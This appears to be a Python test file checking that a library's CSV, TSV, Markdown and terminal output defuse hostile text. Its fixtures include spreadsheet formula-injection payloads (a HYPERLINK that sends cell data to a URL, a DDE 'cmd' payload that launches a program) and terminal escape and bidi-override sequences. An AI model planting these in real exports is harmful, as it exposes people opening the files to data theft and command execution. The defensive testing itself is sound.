"""Is what rows hold harmless where it arrives: in a spreadsheet, on a terminal, in a page of Markdown?"""

from __future__ import annotations

import csv
import io

import pytest

from kg.model import Rows, Term
from kg.namespaces import XSD
from kg.row_text import FORMULA, display, write_csv, write_markdown, write_tsv

HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1)',  # sends a cell away
    "=cmd|' /C calc'!A0",  # runs a program
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",  # white space before it that some readers drop
    "\r=1",
]


def literal(text: str, datatype: str = "") -> Rows:
    return Rows(("cell",), ((Term("literal", text, datatype),),))


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("delimiter", [",", "\t"])
def test_is_no_cell_a_formula(text: str, delimiter: str) -> None:
    written = write_csv(literal(text)) if delimiter == "," else write_tsv(literal(text))
    (_, (cell,)) = csv.reader(io.StringIO(written, newline=""), delimiter=delimiter)
    assert not cell.startswith(FORMULA)
    assert cell.removeprefix("'") == text.replace("\r", "\n")


@pytest.mark.parametrize(
    ("text", "datatype"),
    [
        # numbers below nought stay numbers
        ("-3", XSD + "integer"),
        ("-0.5", XSD + "decimal"),
        ("-INF", XSD + "double"),
        # as do words that only hold such signs
        ("para. 4 - 6", ""),
        ("a=b", ""),
    ],
)
def test_is_everything_else_written_as_it_is(text: str, datatype: str) -> None:
    assert write_csv(literal(text, datatype)) == f"cell\n{text}\n"


def test_is_a_number_that_is_none_no_formula_either() -> None:
    assert write_csv(literal("-1+cmd", XSD + "integer")) == "cell\n'-1+cmd\n"


@pytest.mark.parametrize(
    "text",
    [
        "\x1b[2J\x1b[H",  # clears the screen
        "\x1b]0;title\x07",  # renames the window
        "\x9b31m",  # the same in one byte
        "\u202egnp.exe",  # turns the words about
        "\u2066hidden\u2069",
        "back\b\b\b\bspace",
        "over\rwritten",
    ],
)
def test_does_no_label_steer_the_terminal(text: str) -> None:
    shown = display(Term("literal", text))
    assert len(shown) == len(text)
    assert shown.isprintable()
    assert "\x1b" not in write_markdown(literal(text))


def test_do_letters_of_other_scripts_and_hints_of_direction_stay() -> None:
    text = "حقوق الطفل \u200f(A/RES/44/25)\u200e"
    assert display(Term("literal", text)) == text
